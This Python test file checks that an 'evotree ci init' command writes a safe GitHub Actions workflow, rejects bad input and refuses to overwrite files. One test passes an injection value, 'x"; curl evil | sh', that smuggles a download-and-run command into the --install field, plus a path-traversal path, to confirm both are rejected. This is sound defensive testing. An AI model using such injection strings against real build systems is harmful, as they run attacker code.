"""`evotree ci init`: the GitHub Actions workflow is valid, safe, and its report step really runs."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import yaml
from conftest import Cli, validate
from test_report import _Stub

from evotree.cli import cli as evotree_cli
from evotree.versions import create_version


def _workflow(path: Path) -> dict[str, Any]:
    doc = yaml.safe_load(path.read_text())
    doc["on"] = doc.pop(True, doc.get("on"))  # YAML 1.1 reads the key `on` as true
    return doc


def test_ci_init_writes_a_workflow_whose_steps_run(ws: Any, run: Cli) -> None:
    result = run.json("ci", "init")
    validate(result, "report-ci")
    path = Path(result["path"])
    assert path == ws.root / ".github" / "workflows" / "evotree.yml" and result["action"] == "created"
    doc = _workflow(path)
    assert set(doc["on"]) == {"pull_request"}  # never pull_request_target: forks get no write token
    assert doc["permissions"] == {"contents": "read", "pull-requests": "write", "issues": "write"}
    job = doc["jobs"]["evotree"]
    assert job["if"] == "startsWith(github.head_ref, 'evotree/')"
    steps = {s.get("name") or s["uses"]: s for s in job["steps"]}
    runs = "\n".join(s.get("run", "") for s in job["steps"])
    for command in ("evotree audit", "evotree diagnose", "evotree report", "refs/evotree/*"):
        assert command in runs
    # every evotree command the workflow calls that exists here is a real command
    for line in runs.splitlines():
        words = line.split()
        if words[:1] == ["evotree"] and words[1] != "audit":  # audit: issue 7's command
            assert words[1] in evotree_cli.commands, line
    post = steps["Report (Markdown, posted on the pull request)"]
    assert post["env"] == {"GITHUB_TOKEN": "${{ secrets.GITHUB_TOKEN }}"} and post["if"] == "always()"
    assert steps["Audit"]["continue-on-error"] is True
    assert steps["Fail when the audit failed"]["if"] == "steps.audit.outcome == 'failure'"
    # the report step, run by bash as Actions would, against a stub of the GitHub API
    create_version(ws, hypothesis="try something")
    token = "ci-token"
    with _Stub(token, {"evotree/v1": 3}) as stub:
        env = {**os.environ, "GITHUB_TOKEN": token, "GITHUB_REPOSITORY": "acme/recipes", "GITHUB_API_URL": stub.url,
               "GITHUB_HEAD_REF": "evotree/v1", "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
        script = steps["Version of this pull request"]["run"].replace(">> \"$GITHUB_ENV\"", "")
        version = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True).stdout.strip()
        assert version == "EVOTREE_VERSION=v1"
        env["EVOTREE_VERSION"] = "v1"
        proc = subprocess.run(["bash", "-c", post["run"]], cwd=ws.root, env=env, capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        assert "created comment" in proc.stdout and len(stub.comments[3]) == 1
        assert (ws.root / "evotree-report" / "report.md").is_file()


def test_ci_init_refuses_to_overwrite_and_bad_input(ws: Any, run: Cli, tmp_path: Path) -> None:
    first = run.json("ci", "init", "--install", "evotree[report]==0.3")
    path = Path(first["path"])
    assert 'EVOTREE_INSTALL: "evotree[report]==0.3"' in path.read_text()
    path.write_text("# edited by hand\n")
    err = run.json("ci", "init", code=34)
    assert "already exists" in err["error"]["message"] and "--force" in err["error"]["fix"]
    assert path.read_text() == "# edited by hand\n"
    assert run.json("ci", "init", "--force")["action"] == "overwritten"
    assert "evotree report" in path.read_text()
    err = run.json("ci", "init", "--force", "--install", 'x"; curl evil | sh', code=34)
    assert "plain pip requirement" in err["error"]["message"]
    err = run.json("ci", "init", "--path", "../outside.yml", code=34)
    assert "outside the repository" in err["error"]["message"] and not (ws.root.parent / "outside.yml").exists()
    plain = tmp_path / "plain"
    plain.mkdir()
    Cli(plain)("ci", "init", code=3)
